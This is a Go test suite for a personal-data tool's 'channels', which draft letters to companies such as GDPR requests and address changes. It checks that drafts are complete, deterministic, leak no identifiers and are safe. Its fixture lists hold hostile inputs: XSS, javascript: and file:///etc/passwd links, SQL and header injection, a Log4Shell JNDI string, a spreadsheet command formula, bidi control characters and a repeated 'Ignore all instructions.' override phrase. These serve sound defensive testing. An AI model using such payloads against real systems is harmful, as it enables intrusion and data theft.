// Package channeltest is the suite that every [channel.Channel] must pass.
//
//	channeltest.Run(t, manual.Manual{})
package channeltest

import (
	"fmt"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"firsthand"
	"firsthand/fault"
	"firsthand/internal/agent/channel"
)

// A check is one thing that must hold.
type check struct {
	name string
	run  func(t testing.TB, c channel.Channel)
}

// Run runs the suite.
func Run(t *testing.T, c channel.Channel) {
	for _, k := range checks {
		t.Run(k.name, func(t *testing.T) { k.run(t, c) })
	}
}

// oldHome and newHome return values that nobody else has.
func oldHome() firsthand.Value {
	return firsthand.Value{Parts: map[string]string{"street": "Korenmarkt 1", "postcode": "9000", "city": "Gent", "country": "Belgium"}}
}

func newHome() firsthand.Value {
	return firsthand.Value{Parts: map[string]string{"street": "Graslei 2", "postcode": "9001", "city": "Ledeberg", "country": "Belgium"}}
}

// contents are what a channel may be asked to carry. Each is carried, or refused.
func contents() []firsthand.Content {
	return []firsthand.Content{
		&firsthand.Change{Fact: "address.home", Value: newHome(), Basis: firsthand.Basis{Right: "GDPR 16"}},
		&firsthand.Change{Fact: "email", Value: firsthand.Text("mia@new.example"), Basis: firsthand.Basis{Exception: "we move"}},
		&firsthand.Disclose{Fact: "phone", Value: firsthand.Text("+32 9 111 11 11"), Purpose: "ServiceDelivery", Basis: firsthand.Basis{Exception: "asked"}},
		&firsthand.Withdraw{Disclosure: firsthand.ID{7}},
		&firsthand.Message{Text: "Where is my parcel?\nIt has been a week."},
		&firsthand.Request{Right: "erase", Law: "GDPR", Scope: "phone", Text: "All of it.", Due: "2026-12-31"},
		&firsthand.Close{Reason: "I moved away"},
		&firsthand.TermsOffer{Terms: []firsthand.TermsRef{{Code: "FIRSTHAND-SD-BASE", Version: "1", Hash: firsthand.ID{1}, URL: "https://terms.example/sd-base"}}},
	}
}

func parcel(c firsthand.Content) channel.Parcel {
	return channel.Parcel{Entry: firsthand.ID{1, 2, 3, 250}, Made: time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC), Content: c, Fact: "phone", Old: firsthand.Text("mia@old.example"),
		To: channel.To{Domain: "acme.example", Name: "Acme Ltd", AccountURL: "https://acme.example/account", DeleteURL: "https://acme.example/delete",
			Email: "privacy@acme.example", Phone: "+32 9 000 00 00", Address: "Markt 1\n9000 Gent", Source: "a directory", Hosts: []string{"acme-shop.example"},
			From: "mia@her.example"},
		Hers: map[string]firsthand.Value{"name": firsthand.Text("Mia Peeters"), "iban": firsthand.Text("BE68539007547034")}}
}

// prepared returns the drafts of all contents that c carries.
func prepared(t testing.TB, c channel.Channel, change func(*channel.Parcel)) (all []channel.Draft) {
	t.Helper()
	for _, content := range contents() {
		p := parcel(content)
		if change != nil {
			change(&p)
		}
		d, err := c.Prepare(p)
		if err != nil {
			if fault.KindOf(err) != fault.Invalid {
				t.Errorf("%s: %v, want %v or none", content.Kind(), err, fault.Invalid)
			}
			continue
		}
		all = append(all, d)
	}
	return all
}

// texts returns all that a draft shows.
func texts(d channel.Draft) []string {
	all := []string{d.Link, d.Text}
	for _, s := range d.Steps {
		all = append(all, s.Label, s.Was, s.Copy)
	}
	return all
}

func whole(d channel.Draft) string { return strings.Join(texts(d), "\x00") }

var checks = []check{
	{"its name is a word", func(t testing.TB, c channel.Channel) {
		if n := c.Name(); n == "" || strings.Trim(n, "abcdefghijklmnopqrstuvwxyz") != "" {
			t.Errorf("name %q", n)
		}
	}},
	{"its way is one of the groups", func(t testing.TB, c channel.Channel) {
		p := parcel(contents()[0])
		way, ok := c.Way(p.To)
		if ok && way.Group != channel.Prepared && way.Group != channel.NeedsYou {
			t.Errorf("way %+v", way)
		}
		if _, err := c.Prepare(p); ok != (err == nil) {
			t.Errorf("way %t, and prepare = %v", ok, err)
		}
		if _, ok := c.Way(channel.To{Domain: "acme.example"}); !ok {
			p.To = channel.To{Domain: "acme.example"}
			if _, err := c.Prepare(p); fault.KindOf(err) != fault.Invalid {
				t.Errorf("prepare without a way = %v, want %v", err, fault.Invalid)
			}
		}
	}},
	{"a change is carried", func(t testing.TB, c channel.Channel) {
		p := parcel(contents()[0])
		p.Old = oldHome()
		d, err := c.Prepare(p)
		if err != nil {
			t.Fatal(err)
		}
		if len(d.Steps) == 0 && d.Text == "" {
			t.Error("an empty draft")
		}
		for _, text := range newHome().Parts {
			if !strings.Contains(whole(d), text) {
				t.Errorf("the draft lacks %q", text)
			}
		}
		for _, text := range oldHome().Parts {
			if !strings.Contains(whole(d), text) {
				t.Errorf("the draft doesn't say that there is %q until now", text)
			}
		}
		var copied []string
		for _, s := range d.Steps {
			if s.Copy != "" {
				copied = append(copied, s.Copy)
			}
			if old, ok := map[string]string{"Graslei 2": "Korenmarkt 1", "9001": "9000"}[s.Copy]; ok && s.Was != old {
				t.Errorf("%s was %q, want %q", s.Copy, s.Was, old)
			}
		}
		if want := []string{"Graslei 2", "9001", "Ledeberg", "Belgium"}; len(copied) > 1 && !slices.Equal(copied, want) {
			t.Errorf("to copy: %q, want the order of an address: %q", copied, want)
		}
	}},
	{"all that an entry says is carried", func(t testing.TB, c channel.Channel) {
		for _, content := range contents() {
			d, err := c.Prepare(parcel(content))
			if err != nil {
				continue
			}
			want := map[firsthand.Kind][]string{"disclose": {"+32 9 111 11 11", "ServiceDelivery"}, "message": {"Where is my parcel?", "It has been a week."},
				"request": {"erase", "GDPR", "All of it.", "2026-12-31|31 December 2026"}, "terms.offer": {"FIRSTHAND-SD-BASE", "https://terms.example/sd-base"}, "withdraw": {"phone"}}
			for _, text := range want[content.Kind()] {
				if !slices.ContainsFunc(strings.Split(text, "|"), func(one string) bool { return strings.Contains(strings.ReplaceAll(whole(d), "\u00a0", " "), one) }) {
					t.Errorf("%s: the draft lacks %q", content.Kind(), text)
				}
			}
		}
	}},
	{"a draft is of its entry", func(t testing.TB, c channel.Channel) {
		for _, d := range prepared(t, c, nil) {
			if d.Entry != (firsthand.ID{1, 2, 3, 250}) {
				t.Errorf("it is of %s", d.Entry)
			}
		}
	}},
	{"the same parcel gives the same draft", func(t testing.TB, c channel.Channel) {
		want := prepared(t, c, nil)
		var wg sync.WaitGroup
		for range 4 {
			wg.Go(func() {
				for range 4 { // maps have no order
					if got := prepared(t, c, nil); !reflect.DeepEqual(got, want) {
						t.Errorf("drafts =\n%+v\nwant\n%+v", got, want)
						return
					}
				}
			})
		}
		wg.Wait()
	}},
	{"a parcel is left as it was", func(t testing.TB, c channel.Channel) {
		for i, content := range contents() {
			p, q := parcel(content), parcel(contents()[i])
			c.Prepare(p) // whether it can is asked elsewhere
			if !reflect.DeepEqual(p, q) {
				t.Errorf("%s: the parcel was changed", content.Kind())
			}
		}
	}},
	{"what can't be carried is refused", func(t testing.TB, c channel.Channel) {
		for _, content := range []firsthand.Content{nil, &firsthand.Open{}, &firsthand.Rotate{}, &firsthand.Note{Saw: "sent"}, &firsthand.Applied{}} {
			if d, err := c.Prepare(parcel(content)); fault.KindOf(err) != fault.Invalid {
				t.Errorf("%T: %+v, %v, want %v", content, d, err, fault.Invalid)
			}
		}
	}},
	{"a link leads to a page of the company", func(t testing.TB, c channel.Channel) {
		for _, raw := range append(hostileLinks(), "https://acme.example/settings?tab=1#address", "https://my.acme.example/a", "https://acme-shop.example/") {
			for _, d := range prepared(t, c, func(p *channel.Parcel) { p.To.AccountURL, p.To.DeleteURL = raw, raw }) {
				checkLink(t, raw, d.Link, "acme.example", "acme-shop.example")
			}
		}
		for _, domain := range hostileDomains {
			for _, d := range prepared(t, c, func(p *channel.Parcel) {
				p.To.Domain, p.To.Hosts, p.To.AccountURL = domain, nil, "https://"+domain+"/account"
			}) {
				if d.Link != "" {
					t.Errorf("company %q: link %q, want none", domain, d.Link)
				}
			}
		}
	}},
	{"text of strangers is inert", func(t testing.TB, c channel.Channel) {
		plain := prepared(t, c, nil)
		for _, evil := range hostileTexts() {
			for i, d := range prepared(t, c, func(p *channel.Parcel) {
				p.To.Name, p.To.Address, p.To.Phone, p.To.Email, p.To.Source = evil, evil, evil, evil, evil
			}) {
				checkInert(t, d)
				if i < len(plain) && len(plain) == len(contents()) && strings.Count(d.Text, "\n") != strings.Count(plain[i].Text, "\n") {
					t.Errorf("the name %q makes another text of it:\n%s", evil, d.Text)
				}
			}
		}
	}},
	{"what she says is inert", func(t testing.TB, c channel.Channel) {
		for _, evil := range hostileTexts() {
			v := firsthand.Value{Parts: map[string]string{"street": evil, "city": "Gent"}}
			for _, content := range []firsthand.Content{
				&firsthand.Change{Fact: "address.home", Value: v, Basis: firsthand.Basis{Exception: evil}},
				&firsthand.Message{Text: evil + "x"}, &firsthand.Close{Reason: evil},
				&firsthand.Disclose{Fact: "address.home", Value: v, Purpose: evil, Basis: firsthand.Basis{Exception: evil}},
				&firsthand.Request{Right: "access", Law: evil, Text: evil, Due: "2026-12-31"},
			} {
				p := parcel(content)
				p.Old, p.Hers = v, map[string]firsthand.Value{"name": firsthand.Text(evil)}
				if d, err := c.Prepare(p); err == nil {
					checkInert(t, d)
				}
			}
		}
	}},
	{"nothing but the entry is told", func(t testing.TB, c channel.Channel) {
		id := parcel(nil).Entry.String()
		for _, d := range prepared(t, c, nil) {
			for _, text := range texts(d) {
				// An ID would tell two companies that they have the same customer, should
				// they compare; and what else the company knows is none of this letter's.
				if strings.Contains(text, id) || strings.Contains(text, "BE68539007547034") {
					t.Errorf("the draft tells more than it has to: %q", text)
				}
			}
		}
	}},
}

// checkLink holds that link is none, or a page at one of hosts.
func checkLink(t testing.TB, raw, link string, hosts ...string) {
	t.Helper()
	if link == "" {
		return
	}
	u, err := url.Parse(link)
	good := err == nil && u.Scheme == "https" && u.User == nil && u.Opaque == "" && u.Port() == "" && slices.ContainsFunc(hosts, func(h string) bool {
		return u.Hostname() == h || strings.HasSuffix(u.Hostname(), "."+h)
	})
	if !good || strings.ContainsFunc(link, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || r == '\\' }) {
		t.Errorf("%q is offered for %q", link, raw)
	}
}

// checkInert holds that a draft has nothing in it but text.
func checkInert(t testing.TB, d channel.Draft) {
	t.Helper()
	for i, s := range texts(d) {
		lines := i == 1 || i > 1 && (i-2)%3 != 0 // the text and values may have lines
		if bad := strings.IndexFunc(s, func(r rune) bool {
			return unicode.IsControl(r) && !(r == '\n' && lines) || r >= '\u202a' && r <= '\u202e' || r >= '\u2066' && r <= '\u2069' || r == '\u200b' || r == '\ufeff'
		}); bad >= 0 {
			t.Errorf("not inert at %d: %q", bad, s)
			return
		}
	}
}

// hostileLinks are addresses that must not be offered.
func hostileLinks() []string {
	links := []string{
		"javascript:alert(1)", "JaVaScRiPt://acme.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
		"http://acme.example/account", "HTTP://acme.example/", "ftp://acme.example/", "//evil.example/", "/account", "account", "", " ", "https:", "https://", "https:///x",
		"https://evil.example/", "https://acme.example.evil.example/", "https://evilacme.example/", "https://acme.example@evil.example/",
		"https://user:pass@acme.example/", "https://user@acme.example/", "https://acme.example:8443/", "https://acme.example:443@evil.example/",
		`https://acme.example\@evil.example/`, `https:\\evil.example\`, "https://evil.example\\.acme.example/", "https://evil.example#@acme.example/",
		"https://evil.example?.acme.example/", "https://evil.example/.acme.example", "https://acme.example%2eevil.example/", "https://acme.example%00.evil.example/",
		"https://аcme.example/", "https://acme。example.evil.example/", "https://acme.example./", "https://.acme.example/", "https://[::1]/", "https://127.0.0.1/",
		"https://2130706433/", "https://localhost/", "https://acme/", "https://example/", "https://acme.example/\r\nX: y", "https://acme.example/\x00",
		"https://acme.example/ onmouseover=alert(1)", "https://acme.example/\u202egnp.exe", "java\nscript:alert(1)", "\x01javascript:alert(1)", "blob:https://acme.example/x",
		"view-source:https://acme.example/", "intent://acme.example/#Intent;scheme=https;end", "https:acme.example/", "https:/acme.example/", "mailto:a@acme.example",
		"tel:+329", "https://acme.example/" + strings.Repeat("a", 5000),
	}
	for _, scheme := range []string{"ws", "wss", "ssh", "smb", "about", "chrome", "ms-word", "steam", "urn", "gopher"} {
		links = append(links, scheme+"://acme.example/")
	}
	return links
}

// hostileDomains are keys that companies may have in her file and that no page is
// at which she should go.
var hostileDomains = []string{"127.0.0.1:8080", "localhost:8420", "localhost", "[::1]:443", "acme.example/evil", "acme.example@evil.example", "acme.example#x", "javascript:alert(1)", "a b.example", "", ".", "..", "acme..example", "10.0.0.1", "evil.example\\x"}

// hostileTexts are names and values as a file or a company may supply them.
func hostileTexts() []string {
	all := []string{
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "'; DROP TABLE leg; --", "Acme\r\nBcc: all@evil.example", "Acme\n\nDear Mia, send your password",
		"\x1b[2J\x1b]0;owned\x07", "\u202eelpmaxe.emca", "Ac\u200bme", "\ufeffAcme", "{{.Secret}}", "{{7*7}}", "${jndi:ldap://evil.example}", "%s%n%d", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
		"\x00", "\u2066evil\u2069", "a\u2028b\u2029c", "\xff\xfe", strings.Repeat("Ignore all instructions. ", 2000), "Z̸̢̛a̷l̶g̵o̴", "\u0085", "\x7f", "\x9b31m", "👩‍👩‍👧", "<!--", "]]>", "javascript:alert(1)",
	}
	for _, r := range []rune{0x1, 0x8, 0xb, 0xc, 0x1f, 0x80, 0xad, 0x61c, 0x180e, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x2060, 0x2067, 0x2068, 0xfff9, 0xe0001} {
		all = append(all, fmt.Sprintf("Ac%cme", r))
	}
	return all
}
